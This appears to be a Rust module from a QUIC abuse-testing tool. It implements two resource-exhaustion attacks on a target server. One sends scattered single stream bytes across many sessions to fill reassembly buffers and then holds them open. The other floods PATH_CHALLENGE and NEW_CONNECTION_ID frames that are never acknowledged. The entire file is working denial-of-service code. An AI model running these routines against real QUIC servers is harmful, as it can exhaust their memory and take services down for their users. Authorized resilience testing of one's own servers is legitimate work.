//! Frames that no QUIC library sends.

use crate::attack::{Field, Outcome};
use crate::error::AbuseError;
use crate::peer::client::{FIRST_BODY, Peer};
use crate::peer::crafted::{Crafted, FRAMES_BYTES};
use crate::peer::pace::Pace;
use crate::peer::packet::Frames;
use std::time::{Duration, Instant};

/// Sessions, each of which fills its window, at the most.
const SESSIONS: u64 = 64;

/// Packets between two looks at what has come back.
const LOOK: u64 = 16;

/// Lets the server keep up: what it drops on the way fills nothing.
const REST: Duration = Duration::from_micros(200);

/// Control frames of each kind in a packet.
const EACH: u64 = 20;

/// A session, the bytes that it may send unread, and those of them on one stream.
fn connect(field: &Field<'_>) -> Result<(Crafted, [u64; 2]), AbuseError> {
    let mut peer = Peer::connect(field.target, &mut field.fleet.caller()?)?;
    // The first call opens the channel.
    peer.ask(1, "echo", &[0], Duration::from_secs(3))?;
    let windows = peer.quic.peer_transport_params().map(|parameters| {
        [
            parameters.initial_max_data,
            parameters.initial_max_stream_data_uni,
        ]
    });
    Ok((Crafted::of(peer)?, windows.unwrap_or_default()))
}

/// Every other byte of as much as may be sent: each is kept by itself until the gaps are filled.
pub(super) fn scattered(field: &Field<'_>) -> Result<Outcome, AbuseError> {
    let until = field.until();
    let mut sessions = Vec::new();
    let (mut sent, mut packets) = (0, 0u64);
    'all: for _ in 0..SESSIONS {
        let (mut session, [window, stream_window]) = connect(field)?;
        let mut frames = Frames::default();
        // Some of the window went into the first call.
        for position in (1..window.saturating_sub(1024)).step_by(2) {
            let [stream, offset] = [position / stream_window, position % stream_window];
            frames.stream(FIRST_BODY + 4 * stream, offset, &[0x5a]);
            sent += 1;
            if frames.0.len() > FRAMES_BYTES - 16 {
                session.send(&frames)?;
                frames = Frames::default();
                packets += 1;
                if packets.is_multiple_of(LOOK) {
                    session.discard();
                    std::thread::sleep(REST);
                }
            }
            if sent >= field.amount.count || Instant::now() > until {
                sessions.push(session);
                break 'all;
            }
        }
        sessions.push(session);
    }
    // Held, as a slow peer would.
    let left = until.saturating_duration_since(Instant::now());
    std::thread::sleep(left.min(Duration::from_secs(2)));
    for session in &mut sessions {
        session.send(Frames::default().close(0, ""))?;
    }
    Ok(Outcome::did(format!(
        "{sent} bytes in {packets} packets on {} sessions",
        sessions.len()
    )))
}

/// Each asks for an answer, which is kept until it is acknowledged; none is.
pub(super) fn control_frames(field: &Field<'_>) -> Result<Outcome, AbuseError> {
    let (mut session, _) = connect(field)?;
    let mut pace = Pace::new(field.amount.count, field.amount.per_second, field.until());
    let mut sequence = 0;
    let mut id = [0; 16];
    while let Some(number) = pace.next() {
        let mut frames = Frames::default();
        for _ in 0..EACH {
            frames.path_challenge(number.to_be_bytes());
        }
        for _ in 0..EACH {
            sequence += 1;
            id[..8].copy_from_slice(&u64::to_be_bytes(sequence));
            frames.new_connection_id(sequence, &id);
        }
        session.send(&frames)?;
        if number.is_multiple_of(LOOK) {
            session.discard();
        }
    }
    session.send(Frames::default().close(0, ""))?;
    Ok(Outcome::did(format!(
        "{} packets of {} frames",
        pace.done(),
        2 * EACH
    )))
}
